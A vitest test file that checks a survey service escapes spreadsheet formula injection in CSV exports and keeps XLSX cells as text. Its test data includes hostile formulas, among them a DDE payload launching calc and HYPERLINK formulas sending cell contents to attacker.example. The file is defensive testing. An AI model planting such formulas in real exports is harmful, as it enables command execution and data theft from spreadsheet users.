/**
 * CSV files that a spreadsheet opens safely and that every reader splits into the same rows.
 *
 * Hostile answers (a leading `=`, `+`, `-`, `@`, tab or carriage return; bare line feeds and carriage returns;
 * quotes, commas, semicolons, tabs), a hostile `respondentExternalId`, hostile choice labels and ids, and a
 * question id starting with `-` go through the real API; the CSV is read back with two independent parsers
 * (csv-parse, accepting any line ending as a row break the way spreadsheet programs do, and papaparse) and
 * scanned byte by byte for line breaks outside quotes. By default every user-supplied text cell that a
 * spreadsheet would evaluate starts with `'`; with `escapeFormulas: false` every cell is the raw text. Numbers
 * the service writes (NPS, ratings) stay numbers. XLSX keeps writing such text as text cells, never formulas.
 */
import { parse as csvParse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestService, type TestService } from '../helpers/service.js';
import { exportToBuffer, readXlsx, storedResponses, tenant, type Answer } from './fixtures.js';

let t: TestService;
let live: Awaited<ReturnType<typeof tenant>>['live'];
let surveyId: string;
let stored: Awaited<ReturnType<typeof storedResponses>>;

/** A text answer and the cell it must become by default (`escapeFormulas` on). */
const hostileTexts: [text: string, escaped: string][] = [
  ['=1+1', "'=1+1"],
  ['+1+1', "'+1+1"],
  ['-1+2', "'-1+2"],
  ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', '\'=HYPERLINK("http://attacker.example/?"&A1,"Click")'],
  // Full-width forms that some spreadsheet programs normalise to the ASCII ones.
  ['＝1+1', "'＝1+1"],
  ['＠SUM(1)', "'＠SUM(1)"],
  // A text that only looks like a number is still text from a respondent.
  ['-5', "'-5"],
  // Apostrophes before a formula character get one more, so that removing one restores the text exactly.
  ["'=already", "''=already"],
  ["''@twice", "'''@twice"],
  // Line breaks that end a row unless the cell is quoted.
  ['fine\n=9+9', 'fine\n=9+9'],
  ['fine\r=9+9', 'fine\r=9+9'],
  ['fine\r\n=9+9', 'fine\r\n=9+9'],
  ['\n=after a line feed', '\n=after a line feed'],
  // Quotes and separators (`,` ours, `;` many locales' list separator, tab an import option).
  ['say "=hi"', 'say "=hi"'],
  ['"=quoted"', '"=quoted"'],
  ['a,=1+1', 'a,=1+1'],
  ['a;=1+1', 'a;=1+1'],
  ['tab\t=1+1', 'tab\t=1+1'],
  // Not a formula: a spreadsheet reads a leading space as text; an apostrophe alone changes nothing.
  [' =1+1', ' =1+1'],
  ["'plain", "'plain"],
  ['plain', 'plain'],
];
const N = hostileTexts.length;

const externalIds: [id: string, escaped: string][] = [
  ['=HYPERLINK("http://attacker.example","x")', '\'=HYPERLINK("http://attacker.example","x")'],
  ['@evil', "'@evil"],
  ['+1', "'+1"],
  ['-1-1', "'-1-1"],
  ['\tE-tab', "'\tE-tab"],
];

const choiceLabels: Record<string, string> = {
  c_eq: '=HYPERLINK("http://attacker.example","Office")',
  c_at: '@SUM(1+1)',
  '-3-3': 'Home',
  m_eq: '=1+1',
  m_semi: 'Flex; remote',
  m_plus: '+cmd',
};
const singles = ['c_eq', 'c_at', '-3-3'];
const multis = [['m_eq', 'm_semi'], ['m_semi', 'm_eq'], ['m_plus'], ['m_semi'], ['m_eq', 'm_plus', 'm_semi']];

/** The text question's id starts with `-`: the header cell is author-supplied text too. */
const TEXT_Q = '-2-2';
const header = [
  'responseId',
  'submittedAt',
  'respondentExternalId',
  'distributionId',
  'language',
  'q_1',
  'q_2',
  'q_choice',
  'q_multi',
  TEXT_Q,
];

/** What a spreadsheet would take as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

function answersFor(i: number): Answer[] {
  const answers: Answer[] = [{ questionId: 'q_1', value: i % 11 }];
  if (i % 3 !== 2) answers.push({ questionId: 'q_2', value: i % 11 });
  answers.push({ questionId: 'q_choice', value: singles[i % singles.length]! });
  answers.push({ questionId: 'q_multi', value: multis[i % multis.length]! });
  answers.push({ questionId: TEXT_Q, value: hostileTexts[i]![0] });
  return answers;
}

const externalIdFor = (i: number) => (i < externalIds.length ? externalIds[i]![0] : `E-${i}`);

beforeAll(async () => {
  t = await startTestService();
  ({ live } = await tenant(t));
  const survey = await live.unwrap(
    live.POST('/api/v1/surveys', {
      body: {
        title: 'Hostile answers',
        questions: [
          { id: 'q_1', type: 'nps', text: 'Recommend us?' },
          { id: 'q_2', type: 'rating', text: 'Tools', required: false, min: 0, max: 10 },
          {
            id: 'q_choice',
            type: 'single_choice',
            text: 'Where?',
            choices: singles.map((id) => ({ id, label: choiceLabels[id]! })),
          },
          {
            id: 'q_multi',
            type: 'multiple_choice',
            text: 'Benefits?',
            choices: Object.keys(choiceLabels)
              .filter((id) => id.startsWith('m_'))
              .map((id) => ({ id, label: choiceLabels[id]! })),
            minSelections: 1,
            maxSelections: 3,
          },
          { id: TEXT_Q, type: 'text', text: 'Anything else?', maxLength: 2000 },
        ],
      },
    }),
  );
  surveyId = survey.id;
  await live.unwrap(live.POST('/api/v1/surveys/{id}/launch', { params: { path: { id: surveyId } } }));
  for (let i = 0; i < N; i++) {
    await live.unwrap(
      live.POST('/api/v1/surveys/{id}/responses', {
        params: { path: { id: surveyId } },
        body: { respondentExternalId: externalIdFor(i), answers: answersFor(i) },
      }),
    );
  }
  stored = await storedResponses(live, surveyId);
  // The export's order (submittedAt, id) is the submission order here; the expectations below rely on it.
  expect(stored.map((r) => r.answers.find((a) => a.questionId === TEXT_Q)?.value)).toEqual(
    hostileTexts.map(([text]) => text),
  );
});
afterAll(async () => {
  await t?.close();
});

/** Every cell of the file as it must read: raw text, or escaped by the rule of `escapeFormulas`. */
function expectedRows(options: { labels: boolean; escape: boolean }): string[][] {
  const esc = (text: string) =>
    options.escape && /^'*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text) ? `'${text}` : text;
  const choice = (id: string) => (options.labels ? choiceLabels[id]! : id);
  return [
    header.map((h) => (h === TEXT_Q ? esc(h) : h)),
    ...stored.map((r, i) => {
      const byQ = new Map(r.answers.map((a) => [a.questionId, a.value]));
      const multi = (byQ.get('q_multi') as string[]).map((id) => choice(id).replaceAll(';', '\\;')).join(';');
      return [
        r.id,
        r.submittedAt,
        esc(r.respondentExternalId!),
        r.distributionId ?? '',
        r.language ?? '',
        String(byQ.get('q_1')),
        byQ.has('q_2') ? String(byQ.get('q_2')) : '',
        esc(choice(byQ.get('q_choice') as string)),
        esc(multi),
        options.escape ? hostileTexts[i]![1] : hostileTexts[i]![0],
      ];
    }),
  ];
}

/** Reader 1: csv-parse, taking `\r\n`, `\n` and `\r` each as the end of a row, as spreadsheet programs do. */
function readWithCsvParse(text: string): string[][] {
  return csvParse(text, {
    record_delimiter: ['\r\n', '\n', '\r'],
    relax_column_count: true,
    skip_empty_lines: false,
  }) as string[][];
}

/** Reader 2: papaparse, with its own line-ending detection. */
function readWithPapa(text: string): string[][] {
  const result = Papa.parse<string[]>(text, { header: false, skipEmptyLines: false });
  expect.soft(result.errors, 'papaparse: errors').toEqual([]);
  const rows = result.data;
  // The file ends with a line break, which papaparse reads as one more, empty, row.
  expect.soft(rows.at(-1), 'papaparse: the last line break').toEqual(['']);
  return rows.slice(0, -1);
}

/** The line breaks that are not inside a quoted field, in order: the row ends any reader sees. */
function rowBreaksOutsideQuotes(text: string): string[] {
  const breaks: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (c === '"') quoted = !quoted;
    else if (!quoted && (c === '\r' || c === '\n')) {
      const crlf = c === '\r' && text[i + 1] === '\n';
      breaks.push(crlf ? '\r\n' : c);
      if (crlf) i++;
    }
  }
  expect(quoted).toBe(false);
  return breaks;
}

async function csvExport(request: { choiceValues?: 'ids' | 'labels'; escapeFormulas?: boolean }) {
  const { export: done, bytes } = await exportToBuffer(live, surveyId, { format: 'csv', ...request });
  expect(done).toMatchObject({ status: 'completed', rowCount: N, size: bytes.length });
  return bytes.toString('utf8');
}

function checkFile(text: string, options: { labels: boolean; escape: boolean }) {
  const expected = expectedRows(options);
  expect(expected.length).toBe(N + 1);
  // Every row ends in `\r\n`, and nothing else outside quotes ends a row: whatever line ending a reader accepts,
  // it sees N + 1 rows.
  // (Soft assertions: a failure reports every broken property, not only the first.)
  expect
    .soft(rowBreaksOutsideQuotes(text), 'row breaks outside quotes')
    .toEqual(Array.from({ length: N + 1 }, () => '\r\n'));
  for (const [name, read] of [
    ['csv-parse', readWithCsvParse],
    ['papaparse', readWithPapa],
  ] as const) {
    const rows = read(text);
    expect.soft(rows.length, `${name}: rows`).toBe(N + 1);
    const formulaCells = rows.flat().filter((cell) => FORMULA_START.test(cell));
    if (options.escape) expect.soft(formulaCells, `${name}: cells a spreadsheet would evaluate`).toEqual([]);
    else expect.soft(formulaCells.length, `${name}: raw cells`).toBeGreaterThan(0);
    expect.soft(rows, `${name}: cells`).toEqual(expected);
  }
}

describe('CSV with hostile answers', () => {
  it('by default prefixes every user-supplied cell a spreadsheet would evaluate with an apostrophe (choice labels)', async () => {
    const text = await csvExport({ choiceValues: 'labels' });
    checkFile(text, { labels: true, escape: true });
    // Cells with a line break, a semicolon or a tab are quoted, not only those with `\r\n`, quotes or commas.
    for (const cell of [
      '"fine\n=9+9"',
      '"fine\r=9+9"',
      '"fine\r\n=9+9"',
      '"a;=1+1"',
      '"tab\t=1+1"',
      '"a,=1+1"',
      '"say ""=hi"""',
      '"\'\r=1+1"',
      '"\'\t=1+1"',
    ]) {
      expect(text, JSON.stringify(cell)).toContain(cell);
    }
    // The multiple-choice cell: escaped once, at its start; its separator-bearing label stays escaped as before.
    expect(text).toContain(`"'=1+1;Flex\\; remote"`);
    expect(text).toContain(`"Flex\\; remote;=1+1"`);
    // Numbers written by the service stay numbers: no apostrophe, no quotes.
    const firstRow = text.split('\r\n')[1]!;
    expect(firstRow).toMatch(
      new RegExp(
        `^${stored[0]!.id},${stored[0]!.submittedAt.replaceAll('.', '\\.')},"'=HYPERLINK\\(""http://attacker\\.example"",""x""\\)",,,0,0,`,
      ),
    );
  });

  it('escapes choice ids and the question id in the header too (choice ids)', async () => {
    const text = await csvExport({});
    checkFile(text, { labels: false, escape: true });
    expect(
      text.startsWith(
        `responseId,submittedAt,respondentExternalId,distributionId,language,q_1,q_2,q_choice,q_multi,'-2-2\r\n`,
      ),
    ).toBe(true);
    expect(text).toContain(",'-3-3,");
  });

  it('writes every cell raw with escapeFormulas: false, still quoting every line break and separator', async () => {
    const text = await csvExport({ choiceValues: 'labels', escapeFormulas: false });
    checkFile(text, { labels: true, escape: false });
    expect(
      text.startsWith(
        `responseId,submittedAt,respondentExternalId,distributionId,language,q_1,q_2,q_choice,q_multi,-2-2\r\n`,
      ),
    ).toBe(true);
    for (const cell of ['"fine\n=9+9"', '"fine\r=9+9"', '"\r=1+1"', '"\t=1+1"', '"a;=1+1"'])
      expect(text, JSON.stringify(cell)).toContain(cell);
    expect(text).toContain(',-1+2\r\n');
  });

  it('escapeFormulas: true is the default', async () => {
    const explicit = await csvExport({ choiceValues: 'labels', escapeFormulas: true });
    const implicit = await csvExport({ choiceValues: 'labels' });
    // Different ids and times aside (none: the rows are the same responses), the files are identical.
    expect(explicit).toBe(implicit);
  });
});

describe('XLSX with hostile answers', () => {
  it('writes hostile texts, ids and labels as text cells, never formulas, and unescaped', async () => {
    const { bytes } = await exportToBuffer(live, surveyId, { format: 'xlsx', choiceValues: 'labels' });
    const sheet = (await readXlsx(bytes)).worksheets[0]!;
    expect(sheet.actualRowCount).toBe(N + 1);
    const textCell = (cell: ExcelJS.Cell, value: string) => {
      expect(cell.type, JSON.stringify(value)).toBe(ExcelJS.ValueType.String);
      expect(cell.formula, JSON.stringify(value)).toBeUndefined();
      // XML reads every CR LF and lone CR as LF (a documented property of the format).
      expect(cell.value).toBe(value.replaceAll('\r\n', '\n').replaceAll('\r', '\n'));
    };
    expect(sheet.getRow(1).getCell(10).value).toBe(TEXT_Q);
    stored.forEach((r, i) => {
      const row = sheet.getRow(i + 2);
      textCell(row.getCell(3), externalIdFor(i));
      expect(row.getCell(6).type).toBe(ExcelJS.ValueType.Number);
      textCell(row.getCell(8), choiceLabels[singles[i % singles.length]!]!);
      textCell(row.getCell(10), hostileTexts[i]![0]);
    });
  });
});

describe('validation of escapeFormulas', () => {
  it('is refused with every format but CSV, naming the field, and must be a boolean', async () => {
    for (const [format, escapeFormulas] of [
      ['json', true],
      ['ndjson', false],
      ['xlsx', true],
      ['xlsx', false],
    ] as const) {
      const { error, response } = await live.POST('/api/v1/surveys/{id}/responses/export', {
        params: { path: { id: surveyId } },
        body: { format, escapeFormulas },
      });
      expect(response.status, `${format} ${escapeFormulas}`).toBe(400);
      expect(error?.error.code).toBe('validation_failed');
      expect(error?.error.details).toEqual([
        expect.objectContaining({ path: '/body/escapeFormulas', code: 'invalid_value' }),
      ]);
    }
    const wrongType = await live.POST('/api/v1/surveys/{id}/responses/export', {
      params: { path: { id: surveyId } },
      body: { format: 'csv', escapeFormulas: 'no' as never },
    });
    expect(wrongType.response.status).toBe(400);
    expect(wrongType.error?.error.details?.[0]?.path).toBe('/body/escapeFormulas');
  });
});
